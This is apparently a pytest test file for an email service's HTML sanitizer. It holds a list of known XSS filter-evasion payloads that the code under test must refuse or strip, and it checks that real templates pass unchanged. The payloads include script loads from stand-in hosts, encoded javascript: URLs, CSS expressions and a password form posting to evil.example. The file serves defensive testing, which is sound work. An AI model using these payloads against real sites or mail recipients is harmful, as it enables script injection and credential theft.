"""SPEC §17 "HTML hardening": known XSS vectors (OWASP XSS Filter Evasion cheat-sheet style) are
refused under ``reject`` and gone under ``sanitize``; real transactional templates pass byte for byte."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import nh3
import pytest

from tenantmail.domain.errors import InvalidInput
from tenantmail.domain.html_hardening import HtmlPolicy, findings, harden_html
from tenantmail.domain.send_request import SendRequest

CORPUS = Path(__file__).parent / "html_corpus"
TEMPLATES = sorted(CORPUS.glob("*.html"))

XSS_VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.example/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.example/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<div style=\"width: expression(alert('XSS'));\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"https://evil.example/steal\"><input name=\"password\"><button>Log in</button></form>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<a href=\"vbscript:msgbox('XSS')\">click</a>",
    "<img src=x onerror=alert(1)//",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"java&#0000009script:alert(1)\">x</a>",
    "<img srcset=\"https://ok.example/a.png 1x, javascript:alert(1) 2x\">",
]


@pytest.mark.parametrize("vector", XSS_VECTORS, ids=range(len(XSS_VECTORS)))
def test_every_known_xss_vector_is_refused_and_gone_when_sanitized(vector: str) -> None:
    html = f"<p>Hello</p>{vector}<p>Bye</p>"
    with pytest.raises(InvalidInput) as refused:
        harden_html(html, HtmlPolicy.REJECT)
    assert "htmlBody has markup the sanitizer would remove" in refused.value.message and refused.value.details["removed"]
    cleaned = harden_html(html, HtmlPolicy.SANITIZE)
    assert cleaned.sanitized and findings(cleaned.html) == []  # what is sent is clean by both readers
    tags, attributes = _markup(cleaned.html)  # markup only: escaped text such as "&lt;script" is harmless
    assert not tags & {"script", "iframe", "object", "embed", "form", "input", "base", "link", "svg", "math", "frame"}
    assert not {a for a in attributes if a.startswith("on") or a in ("http-equiv", "dynsrc", "action")}
    assert not re.search(r'(href|src|background)="\s*(javascript|vbscript|data):', cleaned.html.lower())
    assert not re.search(r"expression\(|-moz-binding|@import", cleaned.html.lower())


@pytest.mark.parametrize("template", TEMPLATES, ids=[t.name for t in TEMPLATES])
def test_real_transactional_templates_pass_byte_for_byte(template: Path) -> None:
    html = template.read_text()
    for policy in HtmlPolicy:
        hardened = harden_html(html, policy)
        assert hardened.html == html and not hardened.sanitized


def test_a_refusal_names_what_would_be_removed() -> None:
    with pytest.raises(InvalidInput) as refused:
        harden_html('<p onclick="x()" style="position: fixed; color: red">a</p><script>b()</script>'
                    '<a href="javascript:c()">d</a>', HtmlPolicy.REJECT)
    assert refused.value.details["removed"] == [
        "onclick attribute on <p>", "style property position on <p>", "<script> element", "javascript: URL in href of <a>",
    ]


def test_sanitize_keeps_what_is_allowed() -> None:
    cleaned = harden_html('<p style="color: red; position: fixed" onclick="x()">Hi <b>there</b></p><script>y()</script>',
                          HtmlPolicy.SANITIZE)
    assert cleaned.sanitized and cleaned.html == '<p style="color:red">Hi <b>there</b></p>'


def test_the_policy_is_applied_by_the_send_request_and_recorded() -> None:
    fields = {"configuration_e_id": "c", "recipient": "a@example.com", "subject": "s"}
    with pytest.raises(InvalidInput):
        SendRequest.parse(**fields, html_body="<p onclick=x()>a</p>")
    sanitized = SendRequest.parse(**fields, html_body="<p onclick=x()>a</p>", html_policy="sanitize")
    assert sanitized.html_body == "<p>a</p>" and sanitized.html_sanitized
    plain = SendRequest.parse(**fields, html_body="<p>a</p>", html_policy="sanitize")
    assert plain.html_body == "<p>a</p>" and not plain.html_sanitized
    assert sanitized.fingerprint() != SendRequest.parse(**fields, html_body="<p>a</p>").fingerprint()


def test_nh3_is_the_pinned_sanitizer() -> None:  # the allow-list's behaviour is tested against this version
    assert nh3.clean("<b>x</b><script>y</script>") == "<b>x</b>"


def _markup(html: str) -> tuple[set[str], set[str]]:
    class Collect(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tags: set[str] = set()
            self.attributes: set[str] = set()

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.tags.add(tag)
            self.attributes.update(name for name, _ in attrs)

    collect = Collect()
    collect.feed(html)
    collect.close()
    return collect.tags, collect.attributes
